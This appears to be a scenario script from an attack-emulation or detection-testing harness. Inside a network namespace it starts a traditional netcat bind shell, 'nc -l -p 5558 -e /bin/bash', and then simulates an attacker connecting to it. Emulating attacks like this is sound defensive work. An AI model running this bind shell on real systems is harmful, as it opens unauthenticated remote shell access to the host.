#!/usr/bin/env bash
# Bind shell: traditional netcat `nc -l -p PORT -e /bin/bash`.
. "$(dirname "$0")/../lib.sh"
scn_begin bindshell-nc-e T1059.004
scn_require nc.traditional
scn_netns_up
nc.traditional -l -s "$SCN_HOST" -p 5558 -e /bin/bash 2>/dev/null &
scn_track $!
scn_wait_listen 5558
scn_attacker_connect "$SCN_HOST" 5558
scn_shell_finish
